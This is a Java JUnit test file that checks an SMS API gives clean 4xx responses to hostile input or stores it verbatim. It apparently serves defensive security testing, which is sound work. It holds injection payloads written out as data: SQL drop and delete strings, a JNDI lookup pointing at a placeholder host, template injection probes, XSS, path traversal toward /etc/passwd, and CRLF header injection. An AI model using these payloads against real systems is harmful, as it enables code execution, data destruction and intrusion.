package io.richmond.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import tools.jackson.databind.JsonNode;

/**
 * What an attacker or a broken client may send to the forms and JSON of the API: every one answers a clean 4xx
 * (or is stored exactly as given), never a 500, and nothing given is ever executed.
 */
class HostileInputTest extends ApiTestBase {

    private static final String SEND = "/api/v1/sms/clickatell/send.json";
    private static final String TEMPLATE_SEND = "/api/v1/sms/clickatell/template_send.json";

    private String user;

    @BeforeEach
    void account() {
        user = newAccount("hostile");
    }

    static Stream<String> verbatimMessages() {
        return Stream.of("'; drop table sent_sms; --", "1' or '1'='1", "\" or 1=1 --", "'); delete from account; --",
                "{{name}}", "{{#x}}y{{/x}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "${jndi:ldap://x.example/a}",
                "<script>alert(1)</script>", "%s%s%s%n", "\\u0000", "line one\nline two\r\n\ttabbed");
    }

    @ParameterizedTest
    @MethodSource("verbatimMessages")
    void injectionStringsAreStoredAndReturnedVerbatim(String message) {
        for (String body : List.of(form("to_msisdn", "27123456789", "from_msisdn", "27123456789", "message",
                message), "json")) {
            HttpResponse<String> answer = body.equals("json")
                    ? postJson(user, SEND, JSON.writeValueAsString(Map.of("to_msisdn", "27123456789",
                            "from_msisdn", "27123456789", "message", message)))
                    : postForm(user, SEND, body);
            long id = ok(answer).get(0).get("id").asLong();

            assertThat(json(answer).get(0).get("message").asString()).isEqualTo(message);
            assertThat(ok(get(user, "/api/v1/sms/clickatell/status/" + id + ".json")).get("message").asString())
                    .isEqualTo(message);
            assertThat(jdbc.queryForObject("select message from sent_sms where id = ?", String.class, id))
                    .isEqualTo(message);
        }
        assertThat(jdbc.queryForObject("select count(*) from account", Integer.class)).isPositive();
    }

    @Test
    void templateValuesAreTextNotTemplates() {
        JsonNode sent = ok(postForm(user, TEMPLATE_SEND, form("to_msisdn", "27123456789", "to_msisdn", "27123456788",
                "from_msisdn", "27123456789", "template", "Hi {{name}}!", "template_name", "{{name}}",
                "template_name", "{{#name}}{{/name}} ${7*7}")));

        assertThat(sent.findValuesAsString("message")).containsExactly("Hi {{name}}!",
                "Hi {{#name}}{{/name}} ${7*7}!");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{name.class}}", "{{name.class.name}}", "{{name.bytes}}", "{{name.length}}",
            "{{name.class.protectionDomain.codeSource.location}}", "{{name.empty}}", "{{#name.class}}x{{/name.class}}"})
    void aTemplateReachesTheGivenValuesAndNothingBehindThem(String template) {
        HttpResponse<String> answer = postForm(user, TEMPLATE_SEND, form("to_msisdn", "27123456789",
                "from_msisdn", "27123456789", "template", "Hi " + template, "template_name", "Ann"));

        assertThat(answer.body()).doesNotContain("java.lang", "file:", "[B@", "true", "false");
        if (answer.statusCode() == 200) {
            assertThat(json(answer).get(0).get("message").asString()).as("a section over nothing renders nothing")
                    .isEqualTo("Hi ");
        } else {
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
            assertThat(json(answer).get("field").asString()).isEqualTo("template");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{>partial}}", "{{> /etc/passwd}}", "{{=<% %>=}}<%name%>{{name}}", "{{{name}",
            "{{/name}}", "{{^name}}", "{{!}}{{"})
    void oddTemplatesAreRefusedOrRenderedNeverA500(String template) {
        HttpResponse<String> answer = postForm(user, TEMPLATE_SEND, form("to_msisdn", "27123456789",
                "from_msisdn", "27123456789", "template", template, "template_name", "Ann"));

        assertThat(answer.statusCode()).as(answer.body()).isIn(200, 400);
        if (answer.statusCode() == 400) {
            assertThat(json(answer).get("field").asString()).isEqualTo("template");
        }
        assertThat(answer.body()).doesNotContain("root:");
    }

    @Test
    void tenThousandRecipientsAreRefusedAndNothingIsSent() {
        String recipients = IntStream.range(0, 10_000).mapToObj(i -> "to_msisdn=2712345" + String.format("%04d", i))
                .collect(Collectors.joining("&"));
        String jsonRecipients = IntStream.range(0, 10_000).mapToObj(i -> "\"2712345" + String.format("%04d", i) + "\"")
                .collect(Collectors.joining(",", "[", "]"));

        for (HttpResponse<String> answer : List.of(
                postForm(user, SEND, recipients + "&from_msisdn=27123456789&message=hi"),
                postJson(user, SEND, "{\"to_msisdn\": " + jsonRecipients
                        + ", \"from_msisdn\": \"27123456789\", \"message\": \"hi\"}"),
                postForm(user, TEMPLATE_SEND, recipients + "&from_msisdn=27123456789&template=hi"))) {
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
            assertThat(json(answer).get("field").asString()).isIn("to_msisdn", "body");
        }
        assertNothingSent();
    }

    @Test
    void oversizeFieldsAndBodiesAreRefused() {
        String huge = "a".repeat(3 * 1024 * 1024);
        List<HttpResponse<String>> answers = List.of(
                postForm(user, SEND, form("to_msisdn", "27123456789", "from_msisdn", "27123456789", "message", huge)),
                postJson(user, SEND, "{\"to_msisdn\": \"27123456789\", \"from_msisdn\": \"27123456789\", \"message\": \""
                        + huge + "\"}"),
                postJson(user, SEND, "{\"to_msisdn\": \"27123456789\", \"from_msisdn\": \"27123456789\", \"message\":"
                        + " \"hi\", \"padding\": \"" + huge + "\"}"),
                postJson(user, SEND, "{\"" + huge + "\": 1}"),
                postJson(user, SEND, "[".repeat(100_000)),
                postJson(user, SEND, "{\"a\":".repeat(100_000)),
                postForm(user, SEND, form("to_msisdn", "2".repeat(100_000), "from_msisdn", "27123456789", "message",
                        "hi")),
                postForm(user, "/api/v1/account/callbacks.json", form("name", "sms_received", "url",
                        "http://localhost/" + "a".repeat(10_000))),
                postForm(user, "/api/v1/account/keywords.json", form("number", "31337", "keyword", "k".repeat(10_000))),
                postForm(user, SEND, form("to_msisdn", "27123456789", "from_msisdn", "27123456789", "message", "hi"),
                        "Idempotency-Key", "k".repeat(4000)));

        for (HttpResponse<String> answer : answers) {
            assertThat(answer.statusCode()).as(abbreviate(answer.body())).isIn(400, 413);
            assertThat(json(answer).has("field")).as("the API's own error, naming what was wrong").isTrue();
            assertThat(answer.body().length()).as("the answer does not echo the whole input").isLessThan(20_000);
        }
        assertNothingSent();
    }

    @Test
    void invalidUtf8IsRefusedOrReplacedNeverA500() {
        byte[] badJson = "{\"to_msisdn\": \"27123456789\", \"from_msisdn\": \"27123456789\", \"message\": \"\u0001\"}"
                .getBytes(StandardCharsets.UTF_8);
        badJson[badJson.length - 3] = (byte) 0xC3;
        HttpResponse<String> json = send(request(user, SEND).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(badJson)));
        HttpResponse<String> formAnswer = postForm(user, SEND,
                "to_msisdn=27123456789&from_msisdn=27123456789&message=%C3%28%FF%FE");
        byte[] rawForm = "to_msisdn=27123456789&from_msisdn=27123456789&message=x".getBytes(StandardCharsets.UTF_8);
        rawForm[rawForm.length - 1] = (byte) 0xFF;
        HttpResponse<String> raw = send(request(user, SEND).header("Content-Type",
                "application/x-www-form-urlencoded").POST(HttpRequest.BodyPublishers.ofByteArray(rawForm)));
        HttpResponse<String> latin1 = send(request(user, SEND).header("Content-Type",
                "application/json; charset=ISO-8859-1").POST(HttpRequest.BodyPublishers.ofByteArray(badJson)));

        assertThat(json.statusCode()).as(json.body()).isEqualTo(400);
        assertThat(formAnswer.statusCode()).as(formAnswer.body()).isIn(200, 400);
        assertThat(raw.statusCode()).as(raw.body()).isIn(200, 400);
        assertThat(latin1.statusCode()).as(latin1.body()).isIn(200, 400, 415);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\u0000", "a\u0000b", "\u0007\u001b[31m", "\u007f", "\ud800", "\ufffe", "\u202e"})
    void controlCharactersAreRefusedOrStoredNeverA500(String text) {
        for (HttpResponse<String> answer : List.of(
                postForm(user, SEND, form("to_msisdn", "27123456789", "from_msisdn", "27123456789", "message", text)),
                postJson(user, SEND, "{\"to_msisdn\": \"27123456789\", \"from_msisdn\": \"27123456789\", \"message\": "
                        + JSON.writeValueAsString(text) + "}"),
                postForm(user, SEND, form("to_msisdn", "2712345678" + text, "from_msisdn", "27123456789", "message",
                        "hi")),
                postForm(user, TEMPLATE_SEND, form("to_msisdn", "27123456789", "from_msisdn", "27123456789",
                        "template", "Hi {{name}}", "template_name", text)),
                postForm(user, "/api/v1/account/callbacks.json", form("name", "sms_received", "url",
                        "http://localhost/" + text)),
                postForm(user, "/api/v1/account/callbacks.json", form("name", "sms_received" + text, "url",
                        "http://localhost/")),
                postForm(user, "/api/v1/account/keywords.json", form("number", "31337", "keyword", "win" + text)),
                get(user, "/api/v1/sms/clickatell/status.json?" + form("since", text)),
                get(user, "/api/v1/sms/clickatell/status.json?" + form("id", text)),
                postForm(user, SEND, form("to_msisdn", "27123456789", "from_msisdn", "27123456789", "message", "hi"),
                        "Idempotency-Key", text.replaceAll("[^\\x20-\\x7e]", "") + "key"))) {
            assertThat(answer.statusCode()).as("%s: %s", text.codePoints().boxed().toList(), answer.body())
                    .isIn(200, 400);
            if (answer.statusCode() == 200 && answer.body().startsWith("[")) {
                long id = json(answer).get(0).get("id").asLong();
                assertThat(jdbc.queryForObject("select message from sent_sms where id = ?", String.class, id))
                        .isEqualTo(json(answer).get(0).get("message").asString());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "0", "-9223372036854775808", "9223372036854775807", "9223372036854775808",
            "99999999999999999999999999", "1e3", "0x10", "1.0", "+1", "%201", "1%00", "%EF%BC%91", "%D9%A1",
            "%F0%9D%9F%8F", "%E2%91%A0", "..%2F1", "%2e%2e", "%2E%2E%2F%2E%2E%2Fstatus", "..%252F1", "1;x", "%C0%AE",
            "%25u0031", "1%0D%0AX-Injected:%201", "%25", "null", "undefined", "%5B1%5D", "1,2"})
    void oddIdsAnswerA4xxOnEveryRouteThatTakesOne(String id) {
        for (String path : List.of("/api/v1/sms/clickatell/status/" + id + ".json",
                "/api/v1/account/callbacks/" + id + ".json", "/api/v1/account/callbacks/" + id + "/deliveries.json",
                "/api/v1/account/callbacks/deliveries/" + id + "/redeliver.json",
                "/api/v1/account/keywords/" + id + ".json")) {
            for (String method : List.of("GET", "PUT", "DELETE", "POST")) {
                HttpResponse<String> answer = send(request(user, path).header("Content-Type",
                        "application/x-www-form-urlencoded").method(method,
                        HttpRequest.BodyPublishers.ofString(form("url", "http://localhost/x"))));

                assertThat(answer.statusCode()).as("%s %s: %s", method, path, answer.body()).isIn(400, 404, 405);
                assertThat(answer.headers().firstValue("X-Injected")).isEmpty();
            }
        }
        HttpResponse<String> listed = get(user, "/api/v1/sms/clickatell/status.json?id=" + id);
        assertThat(listed.statusCode()).as(listed.body()).isIn(200, 400);
        HttpResponse<String> start = get(user, "/api/v1/sms/clickatell/status.json?start=" + id);
        assertThat(start.statusCode()).as(start.body()).isIn(200, 400);
    }

    @Test
    void pathTricksCannotReachAnotherResource() {
        String other = newAccount("neighbour");
        long sms = ok(postForm(other, SEND, form("to_msisdn", "27123456789", "from_msisdn", "27123456789", "message",
                "not yours"))).get(0).get("id").asLong();
        for (String path : List.of("/api/v1/sms/clickatell/status/../status/" + sms + ".json",
                "/api/v1/sms/opera/../clickatell/status/" + sms + ".json",
                "/api/v1/sms/clickatell/status/%2e%2e/" + sms + ".json",
                "/api/v1/sms/clickatell/status/" + sms + ".json/..",
                "/api/v1/sms/clickatell/status/" + sms + "%2Ejson",
                "/api/v1/sms/CLICKATELL/status/" + sms + ".json",
                "/api/v1/sms/clickatell%2F..%2Fopera/status/" + sms + ".json")) {
            HttpResponse<String> answer = get(user, path);

            assertThat(answer.statusCode()).as("%s: %s", path, answer.body()).isIn(400, 404);
            assertThat(answer.body()).doesNotContain("not yours");
        }
    }

    @Test
    void aWrongContentTypeOrEmptyBodyIsA4xx() {
        for (HttpResponse<String> answer : List.of(
                send(request(user, SEND).header("Content-Type", "text/plain").POST(HttpRequest.BodyPublishers
                        .ofString("to_msisdn=27123456789"))),
                send(request(user, SEND).header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers
                        .noBody())),
                send(request(user, SEND).header("Content-Type", "application/json; charset=nonsense")
                        .POST(HttpRequest.BodyPublishers.ofString("{}"))),
                send(request(user, SEND).header("Content-Type", "multipart/form-data; boundary=x")
                        .POST(HttpRequest.BodyPublishers.ofString("--x\r\nContent-Disposition: form-data; name=\"a\""
                                + "\r\n\r\n" + "b".repeat(100) + "\r\n--x--\r\n"))),
                send(request(user, SEND).header("Content-Type", "multipart/form-data; boundary=x")
                        .POST(HttpRequest.BodyPublishers.ofString("garbage"))),
                send(request(user, SEND).header("Content-Type", "///").POST(HttpRequest.BodyPublishers
                        .ofString("{}"))),
                postJson(user, SEND, "{\"to_msisdn\": 27123456789, \"from_msisdn\": true, \"message\": 1e400}"),
                postJson(user, SEND, "{\"to_msisdn\": \"27123456789\", \"to_msisdn\": \"27123456780\"}"),
                postJson(user, SEND, "{\"to_msisdn\": [[\"27123456789\"]], \"from_msisdn\": \"27123456789\"}"),
                postJson(user, SEND, "\"just a string\""),
                postJson(user, SEND, "null"),
                postJson(user, SEND, "{} trailing"))) {
            assertThat(answer.statusCode()).as(answer.body()).isBetween(400, 499);
        }
        assertNothingSent();
    }

    private void assertNothingSent() {
        assertThat(jdbc.queryForObject("select count(*) from sent_sms where account_id = ?", Integer.class,
                accountId(user))).isZero();
    }

    private static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "..." : text;
    }
}
